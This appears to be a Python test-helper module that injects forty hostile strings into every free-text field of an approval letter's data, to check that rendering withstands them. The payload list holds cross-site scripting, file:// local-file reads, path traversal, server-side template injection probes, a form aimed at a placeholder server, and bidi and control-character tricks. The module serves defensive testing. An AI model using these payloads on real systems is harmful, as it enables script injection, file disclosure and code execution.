"""Forty texts that would do something if they were more than text, and every place of a letter where text can stand."""

from __future__ import annotations

import copy
import types
import typing
from collections.abc import Iterator
from dataclasses import fields, is_dataclass
from typing import Any, Literal

from approvals.domain.letters.frame import LetterFacts

Path = tuple[str | int, ...]

BOMB = "砸" * 10_000
PAYLOADS: dict[str, str] = {
    "script": "<script>fetch('{web}/script')</script>",
    "script in a comment": "--><script src='{web}/comment.js'></script><!--",
    "picture from the net": "<img src='{web}/pixel.png'>",
    "picture from the disk": "<img src='file://{file}'>",
    "picture by a plain path": "<img src={file}>",
    "picture that fails": "<img src=x onerror=\"location='{web}'\">",
    "svg": "<svg onload=alert(1)><image href='{web}/i.svg'/><use href='file://{file}#a'/></svg>",
    "object": "<object data='file://{file}' type='text/plain'></object>",
    "embed": "<embed src='{web}/e.pdf'>",
    "frame": "<iframe src='file://{file}'></iframe>",
    "attachment": "<link rel=attachment href='file://{file}'>",
    "attachment by a link": "<a rel=attachment href='file://{file}'>附件</a>",
    "style sheet": "<link rel=stylesheet href='{web}/s.css'>",
    "import": "<style>@import url({web}/i.css);</style>",
    "import without tags": "@import url('file://{file}');",
    "font": "<style>@font-face{{font-family:x;src:url({web}/f.woff)}}</style>",
    "style that hides": "</p></main><style>main{{display:none}}</style>",
    "style attribute": "<p style='background:url({web}/b.png);position:fixed;inset:0'>盖住全文</p>",
    "css url": "url(file://{file})",
    "css that leaves its rule": "}} body {{ background: url({web}/x) }} /*",
    "content from a file": "<p style='content:url(file://{file})'>x</p>",
    "base": "<base href='{web}/'>",
    "refresh": "<meta http-equiv=refresh content='0;url={web}'>",
    "meta of the file": "<meta name=author content='别的机关'><title>别的题目</title>",
    "form": "<form action='{web}'><input name=a value=b><textarea></textarea><select></select></form>",
    "end of attribute": "\"' onload='alert(1)' x=\"",
    "entity": "&lt;script&gt;&#60;b&#62;&#x3c;i&#x3e;&nbsp;&amp;amp;",
    "broken markup": "<p <b <<i>>> </td></tr></table><h1>准予",
    "plain address": "{web}/plain 与 file://{file}",
    "javascript address": "javascript:alert(document.domain)",
    "data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "link": "<a href='javascript:alert(1)'>点这里</a><a href='{web}'>或这里</a>",
    "path": "../../../../../../..{file}",
    "template": "{{{{ 7*7 }}}}{{{{ facts.__class__.__mro__ }}}}{{% include 'letters/_base.html' %}}{{# x #}}",
    "template that reads": "{{{{ ''.__class__.__base__.__subclasses__() }}}}${{7*7}}#{{7*7}}<%= 7*7 %>",
    "turned text": "\u202e许予不\u202c\u2066\u2067反\u2069\u200f\u061c",
    "hidden text": "准\u200b予\u200c\u200d\u2060\ufeff\u00ad许\u180e可",
    "controls": "前\x00\x01\x08\x0b\x0c\x1b[31m\x7f\x85后\ufffe\uffff\ufffd",
    "one long word": "A1" * 1_500,
    "ten thousand characters": BOMB,
}
LONG = frozenset({"one long word", "ten thousand characters"})
"""Put into one place at a time: in all places at once they would only fill pages."""


def payloads(web: str, file: str) -> dict[str, str]:
    """The texts, aimed at a server and at a file of this test."""
    return {name: text.format(web=web, file=file) for name, text in PAYLOADS.items()}


def text_places(facts: LetterFacts) -> list[Path]:
    """Where free text stands in these facts, one place for each field of each class inside them.

    Words that choose between sentences (Literal) are no text.
    """
    found = {tuple(step for step in path if isinstance(step, str)): path for path in reversed(list(_all(facts)))}
    return list(reversed(found.values()))


def _all(facts: LetterFacts) -> Iterator[Path]:
    return _places(type(facts), facts.to_plain(), ())


def _places(hint: Any, value: Any, path: Path) -> Iterator[Path]:
    origin, inner = typing.get_origin(hint), typing.get_args(hint)
    if origin in (types.UnionType, typing.Union):
        hint = next(part for part in inner if part is not type(None))
        origin, inner = typing.get_origin(hint), typing.get_args(hint)
    if origin is Literal or (value is None and is_dataclass(hint)):
        return
    if origin is tuple:
        for index, part in enumerate(value or ()):
            yield from _places(inner[0], part, (*path, index))
    elif isinstance(hint, type) and is_dataclass(hint):
        hints = typing.get_type_hints(hint)
        for field in fields(hint):
            yield from _places(hints[field.name], value.get(field.name), (*path, field.name))
    elif hint is str:
        yield path


def with_text(facts: LetterFacts, places: list[Path], text: str) -> LetterFacts:
    """The same facts with the text in these places; ValueError when the class refuses it there."""
    plain = copy.deepcopy(facts.to_plain())
    for path in places:
        held: Any = plain
        for step in path[:-1]:
            held = held[step]
        held[path[-1]] = text
    return type(facts).from_plain(plain)
